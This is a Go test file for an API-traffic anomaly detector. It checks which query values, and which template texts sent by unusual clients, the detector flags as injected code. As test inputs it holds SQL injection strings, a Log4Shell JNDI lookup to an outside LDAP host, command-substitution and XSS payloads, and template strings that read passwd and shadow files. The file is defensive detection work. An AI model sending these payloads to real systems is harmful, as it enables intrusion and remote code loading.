package apimap

import (
	"bytes"
	"slices"
	"testing"

	"bartizan/internal/fingerprint"
	"bartizan/internal/signal"
)

func TestSigns(t *testing.T) {
	for s, want := range map[string]int{
		"": 0, "twelve": 0, "12,50": 0, "n/a": 0, "(555) 123-4567": 0, "1'234.50": 0, "<none>": 0, "50%": 0,
		// Broken programs.
		"{{user_id}}": 0, "${id}": 0, "%ID%": 0, "[object Object]": 0, "function(){ [native code] }": 0, `{"id":12,"a":"b"}`: 0, `[{"a":1}]`: 0, "undefined": 0,
		// Code.
		"1' OR 1=1--": 3, "1;DROP TABLE a--": 2, "${jndi:ldap://203.0.113.66/a}": 2, "{{7*7}}": 2, "$(id)": 2, "1|id;ls": 0, "1) AND SLEEP(5)#": 2,
		"';alert(String.fromCharCode(88))//": 3, "<svg onload=alert(1)>": 3, `"><img src=x>`: 3,
	} {
		if got := signs(s, classesOf(s)); got != want {
			t.Errorf("signs(%q): got %d; want %d", s, got, want)
		}
	}
}

// A value with signs of code is odd where only numbers were, and nowhere else.
func TestOddValue(t *testing.T) {
	w := newWorld()
	for i := range 8000 {
		w.send(call{target: "/orders?page=2&q=red%20shoes&sort=price", client: i % 30})
	}
	for target, want := range map[string]bool{
		"/orders?page=1%27%20OR%201%3D1--&q=red&sort=price": true,
		"/orders?page=last&q=red&sort=price":                false,
		"/orders?page=%7B%7Bpage%7D%7D&q=red&sort=price":    false,
		"/orders?page=2&q=1%27%20OR%201%3D1--&sort=price":   false, // people write there
		"/orders?page=2&q=red&sort=price%27%20OR%201%3D1--": false, // words may become anything
	} {
		got := false
		for _, s := range w.send(call{target: target, client: 99, status: 400}) {
			got = got || s.Kind == signal.OddValue
		}
		if got != want {
			t.Errorf("%s: an odd value: got %t; want %t", target, got, want)
		}
	}
}

// A text is odd where only words were, for as long as one or two clients send it, and so is
// the program that sends it, if no other does. Alone a program is not, nor a new word.
func TestTextAmongWords(t *testing.T) {
	w := newWorld()
	post := func(client int, template string, family fingerprint.Family) (got []signal.Kind) {
		found := w.send(call{method: "POST", target: "/report", json: map[string]string{"template": template}, client: client, family: family})
		for _, s := range found {
			if s.Kind == signal.ParameterType || s.Kind == signal.OddSoftware {
				got = append(got, s.Kind)
			}
		}
		return got
	}
	for i := range 6000 {
		post(i%30, []string{"monthly", "weekly", "by-region"}[i%3], fingerprint.Chrome)
	}
	both := []signal.Kind{signal.ParameterType, signal.OddSoftware}
	for name, c := range map[string]struct {
		client   int
		template string
		family   fingerprint.Family
		want     []signal.Kind
	}{
		"a text by another program":  {901, "@@load(passwd)", fingerprint.Curl, both},
		"a text by the same program": {902, "annual summary", fingerprint.Chrome, both[:1]},
		"a new word":                 {903, "yearly", fingerprint.Curl, nil},
	} {
		if got := post(c.client, c.template, c.family); !slices.Equal(got, c.want) {
			t.Errorf("%s: got %v; want %v", name, got, c.want)
		}
	}
	for range 100 {
		if got := post(901, "@@load(shadow)", fingerprint.Curl); !slices.Equal(got, both) {
			t.Fatalf("after one client's texts were answered well: got %v; want %v", got, both)
		}
	}
	for i := range 40 {
		post(910+i, "annual summary", fingerprint.Chrome)
	}
	if got := post(960, "annual summary (draft)", fingerprint.Chrome); got != nil {
		t.Errorf("after many clients' texts: got %v", got)
	}
	var b bytes.Buffer
	if err := w.m.Snapshot(&b); err != nil {
		t.Fatal(err)
	}
	if w.m = New(w.m.options); w.m.Restore(&b) != nil || post(961, "annual summary (draft)", fingerprint.Chrome) != nil {
		t.Error("a snapshot forgets which kinds of values many clients send")
	}
}
